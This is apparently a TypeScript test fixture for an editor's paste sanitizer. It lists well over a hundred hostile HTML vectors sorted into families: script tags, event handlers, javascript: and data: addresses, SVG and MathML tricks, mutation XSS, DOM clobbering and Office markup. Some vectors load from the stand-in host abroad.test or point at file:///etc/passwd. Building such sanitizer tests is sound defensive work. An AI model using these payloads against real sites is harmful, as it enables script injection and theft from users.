/** A piece of hostile HTML and the ordinary words in it that must survive the paste. */
export interface PasteVector {
  readonly family: string
  readonly html: string
  readonly keeps: readonly string[]
}

const RUN = 'window.__executed=1'
const ABROAD = 'http://abroad.test'
/** The word that each vector shows to a reader. */
const WORD = 'bến'

function vectors(family: string, keeps: readonly string[], pieces: readonly string[]): PasteVector[] {
  return pieces.map((html) => ({ family, html: `<p>Chợ sáng</p>${html}`, keeps: ['Chợ sáng', ...keeps] }))
}

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script\t type="text/javascript">${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script src="${ABROAD}/a.js"></script>`,
  `<script src=//abroad.test/b.js></script>`,
  `<script async defer src="data:text/javascript,${RUN}"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script><!--\n${RUN}\n--></script>`,
  `<script>/*<![CDATA[*/${RUN}/*]]>*/</script>`,
  `<script type="text/vbscript">${RUN}</script>`,
  `<script>${RUN}`,
  `<div><script>${RUN}</script></div>`,
  `<table><tr><script>${RUN}</script></tr></table>`,
  `<select><script>${RUN}</script></select>`,
]

const HANDLED: readonly (readonly [string, string])[] = [
  ['img src=x', 'onerror'],
  ['img src="http://abroad.test/i.png"', 'onload'],
  ['IMG SRC=x', 'OnErRoR'],
  ['img/src=x', 'onerror'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href="#" autofocus tabindex=0', 'onfocus'],
  ['div tabindex=0 autofocus', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video autoplay', 'onloadstart'],
  ['marquee', 'onstart'],
  ['marquee loop=1 width=0', 'onfinish'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['p style="animation:x 1s"', 'onanimationstart'],
  ['p style="transition:all 1s"', 'ontransitionend'],
  ['p', 'onmouseover'],
  ['p', 'onpointerenter'],
  ['p', 'onclick'],
  ['p', 'onbeforecopy'],
  ['p contenteditable', 'onbeforeinput'],
  ['li', 'onwheel'],
  ['h2', 'onauxclick'],
  ['blockquote', 'onscrollend'],
  ['strong', 'oncontextmenu'],
  ['custom-tag autofocus tabindex=1', 'onfocus'],
  ['p popover', 'onbeforetoggle'],
  ['p', 'oncontentvisibilityautostatechange'],
]
const handlers = HANDLED.map(([start, handler]) => `<${start} ${handler}="${RUN}">`)

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\tjavascript:${RUN}`,
  `\njavascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `javascript\t:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript:${RUN}`,
  `&#0000106avascript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#1;javascript:${RUN}`,
  `\u0001\u001fjavascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript://example.org/%0d%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19leGVjdXRlZD0xPC9zY3JpcHQ+`,
  `DATA:text/html,${RUN}`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:${RUN}`,
  `VbScRiPt:${RUN}`,
  `livescript:${RUN}`,
  `blob:${ABROAD}/1`,
  `file:///etc/passwd`,
  `filesystem:${ABROAD}/x`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `jar:javascript:${RUN}`,
  `about:blank`,
  `app://desk/`,
  `media://photo/1`,
  `tel:1`,
]
const addresses = [
  ...ADDRESSES.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">${WORD}</a>`),
  ...ADDRESSES.slice(0, 8).map((address) => `<p><b><a target=_blank rel=x href='${address}'>${WORD}</a></b></p>`),
]

const drawings = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  `<svg><script xlink:href="${ABROAD}/s.js"></script></svg>`,
  `<svg><g onload="${RUN}"></g></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><set onbegin="${RUN}" attributeName=x to=1></svg>`,
  `<svg><animateTransform onbegin="${RUN}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x"></use></svg>`,
  `<svg><use xlink:href="${ABROAD}/u.svg#x"></use></svg>`,
  `<svg><image href="${ABROAD}/i.svg" onerror="${RUN}"></image></svg>`,
  `<svg><feImage href="${ABROAD}/f.svg"></feImage></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__executed=1</script>"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><style>@import "${ABROAD}/s.css";</style></svg>`,
  `<svg><desc><img src=x onerror="${RUN}"></desc></svg>`,
  `<svg><title><img src=x onerror="${RUN}"></title></svg>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
]

const frames = [
  `<iframe src="javascript:parent.__executed=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__executed=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.__executed=1&gt;"></iframe>`,
  `<iframe src="${ABROAD}/frame"></iframe>`,
  `<iframe src="data:text/html,<script>parent.__executed=1</script>"></iframe>`,
  `<frameset onload="${RUN}"><frame src="${ABROAD}/f"></frameset>`,
  `<object data="${ABROAD}/o"></object>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<object><param name=movie value="${ABROAD}/m.swf"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="${ABROAD}/e">`,
  `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<applet code="${ABROAD}/a.class"></applet>`,
  `<portal src="${ABROAD}/p"></portal>`,
]

const styles = [
  `<style>@import url(${ABROAD}/s.css);</style>`,
  `<style>@import "${ABROAD}/s2.css";</style>`,
  `<style>*{background:url(${ABROAD}/bg.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${ABROAD}/f.woff)}*{font-family:x}</style>`,
  `<p style="background:url(${ABROAD}/p.png)">${WORD}</p>`,
  `<p style="background-image:image-set('${ABROAD}/q.png' 1x)">${WORD}</p>`,
  `<p style="width:expression(${RUN})">${WORD}</p>`,
  `<p style="behavior:url(${ABROAD}/b.htc)">${WORD}</p>`,
  `<p style="-moz-binding:url(${ABROAD}/b.xml#x)">${WORD}</p>`,
  `<p style="list-style:url(javascript:${RUN})">${WORD}</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">${WORD}</p>`,
  `<span style="font-weight:bold;cursor:url(${ABROAD}/c.cur),auto">${WORD}</span>`,
  `<link rel=stylesheet href="${ABROAD}/l.css">`,
  `<link rel=preload as=script href="${ABROAD}/l.js">`,
  `<link rel=prefetch href="${ABROAD}/pre"><link rel=dns-prefetch href="//abroad.test">`,
  `<link rel=import href="${ABROAD}/import.html">`,
]

const pages = [
  `<meta http-equiv=refresh content="0;url=${ABROAD}/r">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<base href="${ABROAD}/"><img src="relative.png">`,
  `<base href="javascript:${RUN}//"><a href="x">${WORD}</a>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<form id=f action="${ABROAD}/form"></form><button form=f formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=1 onerror="${RUN}">`,
  `<input type=image src="${ABROAD}/input.png" onerror="${RUN}">`,
  `<table background="${ABROAD}/t.png"><tr><td background="${ABROAD}/td.png">${WORD}</td></tr></table>`,
  `<body background="${ABROAD}/body.png">`,
  `<a href="https://example.org/" ping="${ABROAD}/ping" onclick="${RUN}">${WORD}</a>`,
  `<map name=m><area shape=default href="javascript:${RUN}"></map>`,
  `<blockquote cite="javascript:${RUN}">${WORD}</blockquote>`,
]

const pictures = [
  `<img src="${ABROAD}/i.png">`,
  `<img srcset="${ABROAD}/i.png 1x, ${ABROAD}/j.png 2x">`,
  `<img src="x\` \`<script>${RUN}</script>">`,
  `<img lowsrc="${ABROAD}/low" dynsrc="${ABROAD}/dyn">`,
  `<img src="javascript:${RUN}">`,
  `<img loading=lazy src="${ABROAD}/lazy.png" crossorigin>`,
  `<picture><source srcset="${ABROAD}/p.webp"><img src=x onerror="${RUN}"></picture>`,
  `<video poster="${ABROAD}/poster.png"><source src="${ABROAD}/v.mp4" onerror="${RUN}"></video>`,
  `<audio src="${ABROAD}/a.mp3" autoplay></audio><track src="${ABROAD}/t.vtt">`,
  `<image src=x onerror="${RUN}">`,
  `<bgsound src="${ABROAD}/b.mid">`,
  `<figure data-figure-id="figure000001" onclick="${RUN}"><img src="${ABROAD}/media.png" onerror="${RUN}"><figcaption>${WORD}</figcaption></figure>`,
]

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror="${RUN}"><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<style><img title="</style><img src=x onerror=${RUN}>"></style>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<math><annotation-xml><p><style><img title="</style><img src=x onerror=${RUN}>">`,
  `<svg><![CDATA[<img src=x onerror=${RUN}>]]></svg>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "${ABROAD}/e">]>`,
  `<p title='"><img src=x onerror=${RUN}>'>${WORD}</p>`,
  `<p>&lt;img src=x onerror=${RUN}&gt; ${WORD}</p>`,
  `<p>&amp;lt;script&amp;gt;${WORD}</p>`,
  `<img title="\u2028" src=x\u00a0onerror=${RUN}>`,
  `<img src=x:x onerror\u000c=${RUN}>`,
  `<b><table><b><img src=x onerror=${RUN}></b></table></b>`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `${'<b>'.repeat(300)}<img src=x onerror="${RUN}">${WORD}`,
]

const clobbers = [
  `<p id=__executed>${WORD}</p>`,
  `<a id=document name=body>${WORD}</a>`,
  `<form id=document><input name=body></form>`,
  `<form name=body><input name=firstChild></form>`,
  `<img name=getElementById><img id=implementation>`,
  `<form><input name=attributes><input name=childNodes><input name=nodeType></form>`,
  `<a id=defaultView href="javascript:${RUN}">${WORD}</a>`,
  `<p class="desk-figure-slot" data-lexical-editor=true data-version=vi>${WORD}</p>`,
]

const office = [
  `<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><script>${RUN}</script><![endif]--><p class=MsoNormal>${WORD}</p>`,
  `<![if !supportLists]><script>${RUN}</script><![endif]><p>${WORD}</p>`,
  `<p class=MsoListParagraph style='mso-list:l0 level1 lfo1' onclick="${RUN}"><span style='mso-list:Ignore'><img src=x onerror="${RUN}"></span>${WORD}</p>`,
  `<p style="mso-list:l0 level99999999999 lfo1">${WORD}</p><p style="mso-list:l0 level-3">x</p>`,
  `<v:shape onload="${RUN}" path="javascript:${RUN}"><v:imagedata src="${ABROAD}/v.png" o:href="${ABROAD}/v" /></v:shape>`,
  `<o:p onmouseover="${RUN}">${WORD}</o:p>`,
  `<xml id=island><x><img src=x onerror="${RUN}"></x></xml><span datasrc=#island datafld=x dataformatas=html></span>`,
  `<link rel=File-List href="${ABROAD}/filelist.xml"><link rel=Edit-Time-Data href="${ABROAD}/e.mso">`,
  `<p style="background:url(${ABROAD}/mso.png);mso-fareast-font-family:expression(${RUN})">${WORD}</p>`,
  `<b id="docs-internal-guid-1" style="font-weight:normal" onfocus="${RUN}" tabindex=0 autofocus><p>${WORD}</p></b>`,
  `<style>.c1{background:url(${ABROAD}/c1.png);font-weight:700}</style><span class="c1">${WORD}</span>`,
  `<div class="ListContainerWrapper"><ul><li data-aria-level="1e9" data-listid='"><script>${RUN}</script>'>${WORD}</li></ul></div>`,
]

const holders = [
  `<table><tr><th onclick="${RUN}">a<td>${WORD}<tr><td background="${ABROAD}/cell.png"><img src=x onerror="${RUN}">b<td><a href="javascript:${RUN}">c</a></table>`,
  `<table><caption onmouseover="${RUN}">${WORD}</caption><tr><th>a<th>b<tr><td><script>${RUN}</script>c<td><svg onload="${RUN}"></svg>d</table>`,
  `<table><tr><th colspan=1000000000 rowspan=-1>${WORD}<th>b<tr><td rowspan=999999999>c<td>d</table>`,
  `<table><tr><th>a<th>b<tr><td><iframe srcdoc="<script>parent.__executed=1</script>"></iframe>${WORD}<td>d</table>`,
  `<aside data-desk-kind="factbox" onclick="${RUN}"><p>${WORD}</p><script>${RUN}</script></aside>`,
  `<div class="fact-box"><aside class="fact-box"><p onclick="${RUN}">${WORD}</p></aside></div>`,
  `<p data-desk-kind="__proto__">${WORD}</p>`,
  `<p data-desk-kind="constructor" onclick="${RUN}">${WORD}</p>`,
  `<blockquote class="pullquote" onclick="${RUN}"><p>${WORD}</p></blockquote>`,
  `<p>x<a href="#fn1" id="r1" onclick="${RUN}">1</a> ${WORD}</p><ol><li id=fn1 onclick="${RUN}"><p><a href="javascript:${RUN}">n</a><a href="#r1">^</a></p></li></ol>`,
  `<p>x<a href="#a" id="a">1</a> ${WORD}<a href="#a" name="a">2</a></p>`,
]

const passers = [
  `<a href="https://www.google.com/url?q=javascript:${RUN}">${WORD}</a>`,
  `<a href="https://www.google.com/url?q=data:text/html,<script>${RUN}</script>">${WORD}</a>`,
  `<a href="https://l.facebook.com/l.php?u=%6Aavascript%3A${RUN}">${WORD}</a>`,
  `<a href="https://x.safelinks.protection.outlook.com/?url=%0Ajavascript%3A${RUN}">${WORD}</a>`,
  `<a href="https://www.google.com/url?q=%E0%A4%A">${WORD}</a>`,
  `<figure><img src="data:image/svg+xml,<svg onload=${RUN}>"><figcaption>${WORD}</figcaption></figure>`,
  `<figure><img src="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19leGVjdXRlZD0xPC9zY3JpcHQ+"><figcaption>${WORD}</figcaption></figure>`,
  `<figure><img src="file:///etc/passwd"><figcaption onclick="${RUN}">${WORD}</figcaption></figure>`,
  `<figure><img src="http://abroad.test/fig.png" srcset="${ABROAD}/fig2.png 2x"><figcaption>${WORD}<script>${RUN}</script></figcaption></figure>`,
]

/** Hostile HTML of every kind that public lists know, written for this test. */
export const pasteVectors: readonly PasteVector[] = [
  ...vectors('script', [], scripts),
  ...vectors('event handler', [], handlers),
  ...vectors('address', [WORD], addresses),
  ...vectors('drawing', [], drawings),
  ...vectors('frame', [], frames),
  ...withWord('style', styles),
  ...withWord('page', pages),
  ...withWord('picture', pictures),
  ...withWord('mutation', mutations),
  ...withWord('clobbering', clobbers),
  ...withWord('word processor', office),
  ...withWord('table, box and note', holders),
  ...withWord('redirector and figure', passers),
]

function withWord(family: string, pieces: readonly string[]): PasteVector[] {
  return pieces.flatMap((piece) => vectors(family, piece.includes(WORD) ? [WORD] : [], [piece]))
}
